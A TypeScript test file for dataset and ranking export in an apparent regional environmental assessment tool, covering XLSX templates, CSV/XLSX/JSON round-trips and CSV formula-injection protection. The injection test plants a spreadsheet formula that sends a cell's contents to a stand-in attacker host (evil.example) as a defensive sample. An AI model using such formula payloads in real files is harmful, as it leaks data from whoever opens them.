import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it } from 'vitest';
import { getDataset, saveDatasetGrid } from '../db/datasets.ts';
import { listRegions } from '../db/regions.ts';
import { createRun } from '../db/runs.ts';
import { demoDocument, freshDb, publishApproved, useFreshDb } from '../db/test-fixture.ts';
import { createDraft } from '../db/versions.ts';
import { exportDataset, exportRun, neutraliseCsv } from './export.ts';
import { importDataset } from './import.ts';
import { buildTemplate } from './template.ts';

const h = useFreshDb();
let versionId: number;
beforeEach(async () => {
  versionId = (await createDraft(h.db, { document: demoDocument() }, 'a')).id;
});

async function fill(): Promise<void> {
  const regions = (await listRegions(h.db)).map((r, i) => ({
    code: r.code,
    values: {
      pm25_target: 35,
      pm25: 28 + i * 1.5,
      projects: i % 4,
      incident: i === 3,
      ...(i % 2 ? { level: 'major' } : {}),
    },
  }));
  await saveDatasetGrid(h.db, 2024, { regions }, { versionId, actor: 'a' });
}

async function load(body: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ExcelJS.Buffer);
  return wb;
}

describe('XLSX template', () => {
  it('has one row per assessed region, a key row and a # label row with units, columns grouped by role, frozen header', async () => {
    const file = await buildTemplate(h.db, versionId);
    expect(file.filename).toBe('demo-2024-v1-template.xlsx');
    const wb = await load(file.body);
    const ws = wb.worksheets[0];
    expect(ws.name).toBe('数据');
    expect(ws.getRow(1).values).toEqual([
      undefined,
      'code',
      'name',
      'pm25_target',
      'pm25',
      'projects',
      'incident',
      'level',
    ]);
    expect(ws.getRow(2).values).toEqual([
      undefined,
      '#地区代码',
      '地区名称',
      'PM2.5浓度目标(μg/m³)',
      'PM2.5年均浓度(μg/m³)',
      '按期完成项目数',
      '发生重大环境事件',
      '事件等级',
    ]);
    expect(ws.rowCount).toBe(2 + 12);
    expect(ws.getCell('A3').value).toBe((await listRegions(h.db)).map((r) => r.code).sort()[0]);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 2 });
    expect(ws.getCell('F3').dataValidation).toMatchObject({ type: 'list', formulae: ['"是,否"'] });
    expect(ws.getCell('G14').dataValidation).toMatchObject({ type: 'list', formulae: ['"none,major"'] });
    expect(ws.getCell('D3').dataValidation).toMatchObject({
      type: 'decimal',
      operator: 'between',
      formulae: [0, 500],
    });
    expect(ws.getCell('E3').dataValidation).toMatchObject({ type: 'whole' });
  });

  it('groups targets before actuals before events', async () => {
    const doc = demoDocument();
    doc.inputs = [...doc.inputs].reverse();
    const v = await createDraft(h.db, { document: doc }, 'a');
    const ws = (await load((await buildTemplate(h.db, v.id)).body)).worksheets[0];
    expect((ws.getRow(1).values as unknown[]).slice(3)).toEqual([
      'pm25_target',
      'projects',
      'pm25',
      'level',
      'incident',
    ]);
  });

  it('is re-importable once filled in', async () => {
    const wb = await load((await buildTemplate(h.db, versionId)).body);
    const ws = wb.worksheets[0];
    for (let r = 3; r <= ws.rowCount; r++) {
      ws.getCell(r, 3).value = 35;
      ws.getCell(r, 4).value = 30 + r;
      ws.getCell(r, 5).value = 2;
      ws.getCell(r, 6).value = r % 2 ? '是' : '否';
    }
    const res = await importDataset(h.db, {
      year: 2024,
      versionId,
      format: 'xlsx',
      data: Buffer.from(await wb.xlsx.writeBuffer()),
      actor: 'a',
    });
    expect(res.regions).toBe(12);
    const grid = await getDataset(h.db, 2024);
    expect(grid.regions[0].values).toEqual({ pm25_target: 35, pm25: 33, projects: 2, incident: true });
  });
});

describe('dataset export', () => {
  it.each(['csv', 'xlsx', 'json'] as const)(
    '%s re-imports into a fresh database with the same hash',
    async (format) => {
      await fill();
      const hash = (await getDataset(h.db, 2024)).hash;
      const file = await exportDataset(h.db, 2024, format, versionId);
      expect(file.filename).toBe(`dataset-2024.${format}`);
      const other = await freshDb();
      try {
        const v = (await createDraft(other.db, { document: demoDocument() }, 'a')).id;
        await importDataset(other.db, { year: 2024, versionId: v, format, data: file.body, actor: 'a' });
        expect((await getDataset(other.db, 2024)).hash).toBe(hash);
      } finally {
        other.close();
      }
    },
  );

  it('CSV has a BOM and a # label row; without a version, every stored key', async () => {
    await fill();
    const text = (await exportDataset(h.db, 2024, 'csv', versionId)).body.toString('utf8');
    expect(
      text.startsWith('\uFEFFcode,name,pm25_target,pm25,projects,incident,level\n#地区代码,地区名称,'),
    ).toBe(true);
    const plain = (await exportDataset(h.db, 2024, 'csv')).body.toString('utf8');
    expect(plain.split('\n')[0]).toBe('\uFEFFcode,name,incident,level,pm25,pm25_target,projects');
    const json = JSON.parse((await exportDataset(h.db, 2024, 'json')).body.toString('utf8'));
    expect(json.year).toBe(2024);
    expect(json.regions).toHaveLength(12);
  });
});

describe('run export', () => {
  it('writes the ranking as CSV and XLSX', async () => {
    await fill();
    const pub = await publishApproved(h.db, versionId);
    const run = await createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
    const csv = (await exportRun(h.db, run.id, 'csv')).body
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(csv[0]).toBe(
      'rank,code,name,total,base,bonus,scoreGrade,grade,vetoes,downgrades,caps,main,main.pm25,main.projects,errors',
    );
    expect(csv[1].startsWith('#排名,')).toBe(true);
    expect(csv).toHaveLength(2 + 12);
    expect(csv[2].startsWith('1,')).toBe(true);
    expect(csv.some((l) => l.includes('发生重大环境事件'))).toBe(true); // the vetoed region, by its Chinese name
    expect(csv[1]).toContain(',封顶项,');
    // points with exactly the document's decimals (2 here): 96.80, not 96.8
    const first = csv[2].split(',');
    for (const i of [3, 4, 5, 11, 12, 13]) expect(first[i]).toMatch(/^\d+\.\d{2}$/);
    const wb = await load((await exportRun(h.db, run.id, 'xlsx')).body);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['排名', '运行信息']);
    expect(wb.worksheets[0].rowCount).toBe(14);
    const total = wb.worksheets[0].getRow(3).getCell(4);
    expect(typeof total.value).toBe('number');
    expect(total.numFmt).toBe('0.00');
    const info = wb.worksheets[1];
    const at = info.getColumn(1).values.findIndex((v) => String(v).startsWith('时间'));
    expect(String(info.getRow(at).getCell(2).value)).toMatch(/^\d{4}年\d{1,2}月\d{1,2}日 \d{2}:\d{2}$/);
  });
});

describe('CSV injection', () => {
  it('neutralises text cells that a spreadsheet would run as a formula; numbers and re-import unchanged', async () => {
    await fill();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"点此")';
    h.sqlite.prepare('UPDATE regions SET name_zh = ? WHERE code = ?').run(evil, '220100');
    h.sqlite.prepare('UPDATE regions SET name_zh = ? WHERE code = ?').run('@SUM(1+1)', '220200');
    const cells = (text: string) =>
      text
        .replace(/^\uFEFF/, '')
        .split('\n')
        .flatMap((line) => line.split(','))
        .map((c) => c.replace(/^"/, ''));
    const data = (await exportDataset(h.db, 2024, 'csv', versionId)).body.toString('utf8');
    expect(data).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(data).toContain(`'@SUM(1+1)`);
    expect(cells(data).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    const pub = await publishApproved(h.db, versionId);
    const run = await createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
    const ranking = (await exportRun(h.db, run.id, 'csv')).body.toString('utf8');
    expect(ranking).toContain(`'@SUM(1+1)`);
    expect(cells(ranking).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    // Negative numbers stay numbers, and the exported file re-imports without a change.
    expect(neutraliseCsv('-5')).toBe("'-5");
    const before = await getDataset(h.db, 2024);
    await importDataset(h.db, { year: 2024, versionId, format: 'csv', data, actor: 'a' });
    expect((await getDataset(h.db, 2024)).regions.map((r) => r.values)).toEqual(
      before.regions.map((r) => r.values),
    );
  });
});
